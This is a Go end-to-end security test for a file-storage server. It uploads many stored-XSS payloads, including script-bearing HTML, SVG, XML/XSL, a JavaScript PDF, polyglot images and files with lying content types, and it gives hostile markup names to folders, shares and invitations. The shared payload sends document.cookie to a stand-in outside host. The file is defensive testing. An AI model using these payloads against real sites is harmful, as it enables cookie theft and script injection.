package e2e

import (
	"bytes"
	"encoding/json"
	"image"
	"image/png"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
)

// hostile are files that try to run a script on the server's origin, or to tell somebody elsewhere that they were looked at. RUN is what they run,
// and ELSEWHERE that somebody.
var hostile = []struct{ name, mediaType, content string }{
	// What runs where a browser takes it for a document.
	{"page.html", "text/html", `<!doctype html><base href="ELSEWHERE/"><meta http-equiv="refresh" content="0;url=ELSEWHERE/refresh"><script>RUN</script><img src=x onerror="RUN"><img src="ELSEWHERE/html"><iframe src="/drive/"></iframe><object data="data:text/html,<script>RUN</script>"></object>`},
	{"charset.html", "text/html; charset=utf-7", `+ADw-script+AD4-RUN+ADw-/script+AD4-`},
	{"page.xhtml", "application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></html>`},
	{"script.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9" onload="RUN">
		<script>RUN</script><image x:href="ELSEWHERE/svg" width="9" height="9"/><use href="ELSEWHERE/svg#x"/>
		<style>@import url(ELSEWHERE/css);</style><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:RUN"/></foreignObject></svg>`},
	{"parameters.svg", "IMAGE/SVG+XML; charset=utf-8", `<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>`},
	{"style.xml", "application/xml", `<?xml version="1.0"?><?xml-stylesheet href="ELSEWHERE/xsl" type="text/xsl"?><a xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></a>`},
	{"transformed.xml", "text/xml", `<?xml version="1.0"?><?xml-stylesheet href="sheet.xsl" type="text/xsl"?><a/>`},
	{"sheet.xsl", "application/xslt+xml", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>RUN</script></html></xsl:template></xsl:stylesheet>`},
	{"entities.xml", "application/rss+xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "ELSEWHERE/entity">]><a xmlns:h="http://www.w3.org/1999/xhtml">&x;<h:script>RUN</h:script></a>`},
	{"script.js", "text/javascript", `RUN`},
	{"sheet.css", "text/css", `@import url(ELSEWHERE/css); body { background: url(ELSEWHERE/css) }`},
	{`"><script>run<.pdf`, "application/pdf", scriptedPDF},
	{"mixed", "multipart/x-mixed-replace; boundary=x", "--x\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>\r\n--x--"},
	{"archive.mhtml", "multipart/related; boundary=x", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: http://a/\r\n\r\n<script>RUN</script>\r\n--x--"},

	// Types that lie, and content that is of two.
	{"is script.html", "text/html", `RUN`},
	{"is html.js", "text/html", `<script>RUN</script>`},
	{"is html.png", "image/png", `<!doctype html><script>RUN</script>`},
	{"is html.mp4", "video/mp4", `<!doctype html><script>RUN</script>`},
	{"is html.pdf", "application/pdf", `<!doctype html><script>RUN</script>`},
	{"is html.txt", "text/plain", `<!doctype html><script>RUN</script>`},
	{"is html.bin", "application/octet-stream", `<!doctype html><script>RUN</script>`},
	{"is html.json", "application/json", `{"a": "<script>RUN</script>"}`},
	{"is html", "unknown/unknown", `<!doctype html><script>RUN</script>`},
	{"no type.htm", "", `<!doctype html><script>RUN</script>`},
	{"is svg.jpg", "image/jpeg", `<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>`},
	{"is gif and script.gif", "image/gif", `GIF89a=1;RUN//`},
	{"is gif and html.gif", "text/html", "GIF89a\x01\x00\x01\x00\x00\x00\x00;<script>RUN</script>"},
	{"is png and html.png", "text/html", drawn + `<script>RUN</script>`},
	{"is pdf and html.pdf", "text/html", "%PDF-1.7\n<script>RUN</script>"},
	{"two types.png", "text/html;image/png", `<script>RUN</script>`},
	{"broken type.png", "image/png, text/html", `<script>RUN</script>`},

	// What a page shows of a file.
	{"notes.md", "text/markdown", "# Notes\n<script>RUN</script>\n\n<img src=x onerror=\"RUN\">\n\n![beacon](ELSEWHERE/md)\n\n[click](javascript:RUN) <javascript:RUN>\n\n[data](data:text/html,<script>RUN</script>)\n\n<iframe src=\"javascript:RUN\"></iframe>\n\n<style>@import url(ELSEWHERE/md);</style>\n\n[x]: javascript:RUN\n[x]\n"},
	{"text.txt", "text/plain", `</code></pre><script>RUN</script><img src=x onerror="RUN"><img src="ELSEWHERE/txt">`},
	{`<img src=x onerror=alert('pwned')>.md`, "text/markdown", "[a](b.md \"><script>RUN</script>\")"},
	{`javascript:alert('pwned')`, "text/plain", "a name"},
}

// pwned is what they run: each of it alone would be seen.
const pwned = `document.title='pwned';console.log('pwned');fetch('/pwned');fetch('ELSEWHERE/ran?'+document.cookie);alert('pwned')`

// scriptedPDF runs JavaScript when it is opened, and asks a server elsewhere.
const scriptedPDF = `%PDF-1.7
1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (app.launchURL\("ELSEWHERE/pdf"\); app.alert\('said in the viewer'\); fetch\('/pwned'\))>> /Names <</JavaScript <</Names [(a) <</S /JavaScript /JS (this.getURL\("ELSEWHERE/pdf"\))>>]>>>>>> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA <</O <</S /URI /URI (ELSEWHERE/pdf)>>>>>> endobj
trailer <</Root 1 0 R>>
%%EOF
`

// drawn is an image.
var drawn = func() string {
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 40, 30))); err != nil {
		panic(err)
	}
	return b.String()
}()

// markup is a name of whatever people name, and runs wherever a page takes it for a part of itself.
const markup = `"'><img src=x onerror=alert(1)><svg onload=alert(1)>{{.}}`

// hostileFile is a file as the script opens it.
type hostileFile struct {
	Name    string `json:"name"`
	Version string `json:"version"` // an earlier one's id
	Link    string `json:"link"`    // for who has no account
}

// Stored XSS, tried in a real browser: every hostile file by every address at which a browser gets it, and hostile names on every page that tells
// one. Nothing runs, nobody elsewhere is asked, and content has an origin of its own.
func TestNothingHostileRunsInABrowser(t *testing.T) {
	t.Parallel()
	var baited atomic.Bool
	var taken atomic.Int64
	var elsewhere *httptest.Server
	elsewhere = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/bait": // what would have been seen
			baited.Store(true)
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(strings.ReplaceAll("<title>bait</title><script>"+pwned+"</script>", "ELSEWHERE", elsewhere.URL)))
		case baited.Load():
			taken.Add(1)
		default:
			t.Errorf("somebody elsewhere was asked for %s", r.URL)
		}
	}))
	defer elsewhere.Close()
	s := start(t)
	ann := s.Register(t, "ann")
	asJSON := headers(map[string]string{"Content-Type": jsonType})
	fill := strings.NewReplacer("RUN", strings.ReplaceAll(pwned, "ELSEWHERE", elsewhere.URL), "ELSEWHERE", elsewhere.URL)
	if answer := send(t, ann.Basic, "MKCOL", s.URL+"/dav/files", nil, nil); answer.StatusCode != http.StatusCreated {
		t.Fatal(answer.Status)
	}
	files := make([]hostileFile, len(hostile))
	for i, file := range hostile {
		path, content := "/files/"+file.name, fill.Replace(file.content)
		// Once by WebDAV, which is the earlier version then, and once by tus.
		header := map[string]string{}
		if file.mediaType != "" {
			header["Content-Type"] = file.mediaType
		}
		if answer := send(t, ann.Basic, http.MethodPut, s.URL+"/dav"+escape(path), headers(header), strings.NewReader(content+" ")); answer.StatusCode != http.StatusCreated {
			t.Fatalf("%s: %s", file.name, answer.Status)
		}
		tus := headers(map[string]string{"Tus-Resumable": "1.0.0", "Content-Type": octets, "Upload-Length": strconv.Itoa(len(content)), "Upload-Metadata": "filename " + base64Of(file.name) +
			",folder " + base64Of("/files") + ",conflict " + base64Of("replace") + ",filetype " + base64Of(file.mediaType)})
		if answer := send(t, ann.Bearer, http.MethodPost, s.URL+"/files/", tus, strings.NewReader(content)); answer.StatusCode != http.StatusCreated {
			t.Fatalf("%s: %s %s", file.name, answer.Status, answer.text)
		}
		var versions struct{ Items []struct{ ID string } }
		decode(t, send(t, ann.Bearer, http.MethodGet, s.URL+"/api/v1/versions?path="+url.QueryEscape(path), nil, nil), http.StatusOK, &versions)
		var link struct{ URL string }
		body, err := json.Marshal(map[string]string{"path": path})
		if err != nil {
			t.Fatal(err)
		}
		decode(t, send(t, ann.Bearer, http.MethodPost, s.URL+"/api/v1/links/download", asJSON, bytes.NewReader(body)), http.StatusCreated, &link)
		files[i] = hostileFile{file.name, versions.Items[0].ID, strings.TrimPrefix(link.URL, s.URL)}
	}
	share := ann.nameEverything(t)
	task, err := json.Marshal(map[string]any{"files": files, "share": share, "elsewhere": elsewhere.URL, "markup": markup})
	if err != nil {
		t.Fatal(err)
	}
	told := scene(t, "hostile.mjs", "everything", s.URL, t.TempDir(), string(task))
	if len(told) != 1 || taken.Load() == 0 {
		t.Errorf("it tells %q, and the bait was taken %d times", told, taken.Load())
	}
}

// nameEverything gives a hostile name to everything that the account can name, and answers the path of the link to its files. The account is an administrator's then.
func (a *Account) nameEverything(t *testing.T) (share string) {
	t.Helper()
	if out, err := a.s.Command("user", "role", a.Name, "admin").CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	admin := a.s.Login(t, a.Name) // whose token says so
	post := func(path string, body any, into any) {
		t.Helper()
		text, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		decode(t, send(t, admin.Bearer, http.MethodPost, a.s.URL+"/api/v1/"+path, headers(map[string]string{"Content-Type": jsonType}), bytes.NewReader(text)), http.StatusCreated, into)
	}
	for _, folder := range []string{"/named/", "/named/" + markup + "/"} {
		if answer := send(t, a.Basic, "MKCOL", a.s.URL+"/dav"+escape(folder), nil, nil); answer.StatusCode != http.StatusCreated {
			t.Fatal(answer.Status)
		}
	}
	for _, path := range []string{"named/" + markup + ".txt", "named/" + markup + ".txt", "named/" + markup + "/" + markup + ".txt", "gone " + markup} { // the first is replaced
		a.Put(t, path, "content of "+path)
	}
	if answer := send(t, a.Basic, http.MethodDelete, a.s.URL+"/dav/"+escape("gone "+markup), nil, nil); answer.StatusCode != http.StatusNoContent {
		t.Fatal(answer.Status)
	}
	tus := map[string]string{"Tus-Resumable": "1.0.0", "Upload-Length": "1000", "Upload-Metadata": "filename " + base64Of("unfinished "+markup) + ",filetype " + base64Of(markup) + ",sha256 " + base64Of(strings.Repeat("0", 64))}
	if answer := send(t, a.Bearer, http.MethodPost, a.s.URL+"/files/", headers(tus), nil); answer.StatusCode != http.StatusCreated {
		t.Fatal(answer.Status)
	}
	var made struct{ URL string }
	post("shares", map[string]any{"path": "/files", "name": markup}, &made)
	post("app-passwords", map[string]any{"name": markup, "folder": "/named/" + markup}, &struct{}{})
	post("admin/invitations", map[string]any{"note": markup, "uses": 2}, &struct{}{})
	browser := http.Header{"Content-Type": {jsonType}, "User-Agent": {markup}}
	if answer := send(t, a.Anonymous, http.MethodPost, a.s.URL+"/api/v1/login", browser, strings.NewReader(`{"login": "ann", "password": "`+password+`"}`)); answer.StatusCode != http.StatusOK {
		t.Fatal(answer.Status)
	}
	return strings.TrimPrefix(made.URL, a.s.URL)
}
